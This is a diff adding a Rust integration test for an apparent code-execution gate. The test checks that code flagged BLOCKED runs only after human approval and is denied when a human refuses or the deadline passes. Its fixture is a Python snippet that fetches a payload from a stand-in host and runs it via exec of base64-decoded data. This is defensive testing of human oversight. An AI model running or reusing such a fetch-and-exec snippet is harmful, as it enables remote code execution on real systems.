@@ -1,0 +1,148 @@
+//! BLOCKED code waits for a human: it runs only after a signed approval, and ends denied when a
+//! human denies it or nobody answers before the deadline.
+
+use airlock_protocol::EventKind;
+use airlock_tests::{Stack, events_of, trace_ids_of};
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+/// External code that downloads and executes a payload: BLOCKED by the assessor.
+const BLOCKED: &str = "import base64, urllib.request\n\
+payload = urllib.request.urlopen('http://example.invalid/p').read()\n\
+exec(base64.b64decode(payload))\n\
+print('ran')\n";
+
+fn submit_in_background(stack: &Stack, name: &str) -> Child {
+    let dir = stack.path().join("programs");
+    std::fs::create_dir_all(&dir).expect("dir");
+    let file = dir.join(name);
+    std::fs::write(&file, BLOCKED).expect("program");
+    let mut command: Command = stack.airlock();
+    command
+        .args(["run", "--json", "--origin", "external"])
+        .arg(&file)
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("airlock run")
+}
+
+/// Waits until exactly one more request is pending and returns its id.
+fn wait_pending(stack: &Stack, known: &[String]) -> String {
+    let start = Instant::now();
+    while start.elapsed() < Duration::from_secs(60) {
+        let out = stack.output(&["override", "list", "--json"]);
+        if out.status.success() {
+            let list: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
+            for item in list.as_array().cloned().unwrap_or_default() {
+                let id = item["request_id"].as_str().unwrap_or_default().to_owned();
+                if !known.contains(&id) {
+                    assert_eq!(item["level"], "BLOCKED", "{item}");
+                    assert!(item["findings"].as_array().is_some_and(|f| !f.is_empty()), "{item}");
+                    assert!(item["deadline_ms"].as_i64().is_some(), "{item}");
+                    return id;
+                }
+            }
+        }
+        std::thread::sleep(Duration::from_millis(300));
+    }
+    panic!("no request became pending:\n{}", stack.diagnostics());
+}
+
+fn finish(child: Child) -> (serde_json::Value, i32) {
+    let output = child.wait_with_output().expect("airlock run");
+    let json = serde_json::from_slice(&output.stdout)
+        .unwrap_or_else(|e| panic!("no JSON ({e}): {}", String::from_utf8_lossy(&output.stderr)));
+    (json, output.status.code().unwrap_or(-1))
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn blocked_code_runs_only_after_approval_and_ends_denied_otherwise() {
+    let stack = tokio::task::spawn_blocking(|| Stack::start_with("[gate]\noverride_timeout_secs = 8\n"))
+        .await
+        .expect("stack");
+
+    // Approved: it waits, nothing runs before the answer, then it runs.
+    let child = submit_in_background(&stack, "approve.py");
+    let id = wait_pending(&stack, &[]);
+    std::thread::sleep(Duration::from_secs(1));
+    let before = events_of(&stack, &id).await;
+    assert!(
+        !before.iter().any(|e| e.kind() == EventKind::ExecStarted),
+        "ran before approval"
+    );
+    let out = stack.output(&[
+        "override",
+        "approve",
+        &id,
+        "--reason",
+        "reviewed by the test",
+        "--who",
+        "tester",
+    ]);
+    assert!(
+        out.status.success(),
+        "approve failed: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let (json, _) = finish(child);
+    assert_eq!(json["request_id"], id.as_str());
+    assert_eq!(json["verdict"], "BLOCKED");
+    assert_eq!(json["decision"], "approved", "{json}");
+    assert_eq!(json["approver"]["by"], "human", "{json}");
+    assert_eq!(json["approver"]["who"], "tester", "{json}");
+    // It ran (and failed: the sandbox has no network, so the download raises).
+    assert_eq!(json["outcome"], "finished", "{json}");
+    assert!(
+        json["stderr"].as_str().unwrap_or_default().contains("URLError"),
+        "{json}"
+    );
+
+    // Denied by a human.
+    let child = submit_in_background(&stack, "deny.py");
+    let denied_id = wait_pending(&stack, &[id.clone()]);
+    let out = stack.output(&[
+        "override",
+        "deny",
+        &denied_id,
+        "--reason",
+        "no downloads",
+        "--who",
+        "tester",
+    ]);
+    assert!(
+        out.status.success(),
+        "deny failed: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let (json, status) = finish(child);
+    assert_eq!(status, 4, "{json}");
+    assert_eq!(json["decision"], "denied", "{json}");
+    assert_eq!(json["exit_code"], serde_json::Value::Null);
+    let events = events_of(&stack, &denied_id).await;
+    assert!(
+        !events.iter().any(|e| e.kind() == EventKind::ExecStarted),
+        "a denied request ran"
+    );
+
+    // Nobody answers: denied at the deadline.
+    let child = submit_in_background(&stack, "ignored.py");
+    let ignored_id = wait_pending(&stack, &[id.clone(), denied_id.clone()]);
+    let (json, status) = finish(child);
+    assert_eq!(status, 4, "{json}");
+    assert_eq!(json["decision"], "denied", "{json}");
+    assert!(
+        json["reason"].as_str().unwrap_or_default().contains("deadline"),
+        "{json}"
+    );
+    let events = events_of(&stack, &ignored_id).await;
+    assert!(
+        !events.iter().any(|e| e.kind() == EventKind::ExecStarted),
+        "an unanswered request ran"
+    );
+    assert_eq!(events.iter().filter(|e| e.kind() == EventKind::Terminal).count(), 1);
+    // The denial at the deadline, decided outside any message, still joins the request's trace.
+    let traces = trace_ids_of(&stack, &ignored_id).await;
+    let first = traces.first().expect("events").1.clone();
+    assert!(!first.is_empty() && traces.iter().all(|(_, t)| *t == first), "{traces:?}");
+}
